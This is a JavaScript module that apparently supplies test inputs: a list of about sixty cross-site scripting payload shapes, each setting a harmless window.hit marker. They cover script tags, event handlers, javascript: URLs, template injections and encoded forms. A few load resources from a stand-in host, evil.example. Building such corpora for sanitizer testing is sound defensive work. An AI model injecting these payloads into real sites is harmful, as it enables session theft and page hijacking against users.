// Script injections: texts that run as code where they are not escaped; each would set window.hit.
const RUN = "window.hit=1";
const SHAPES = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=data:,${RUN}></script>`, `<script/x>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `-->'"/></sCript><script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=x:x onerror=${RUN} //`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<body onload=${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<iframe src="javascript:parent.${RUN}">`, `<iframe onload=${RUN}>`, `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`, `<a href="javascript:${RUN}">x</a>`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`, `<audio src onerror=${RUN}>`, `<marquee onstart=${RUN}>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import '//evil.example/x.css'</style>`, `<form action="javascript:${RUN}"><button>x`, `<button onclick=${RUN}>x</button>`, `<math><mtext><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<xss onpointerrawupdate=${RUN} style=display:block>x`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `%3Cscript%3E${RUN}%3C/script%3E`, `<![CDATA[<script>${RUN}</script>]]>`, `<!--><script>${RUN}</script>-->`, `';${RUN};'`, `";${RUN};"`, `\`;${RUN};\``,
  `</script><script>${RUN}</script>`, `[x](javascript:${RUN})`, `<a href="//evil.example">x</a>`, `\u001b]8;;javascript:${RUN}\u0007x\u001b]8;;\u0007`,
];
export default SHAPES;
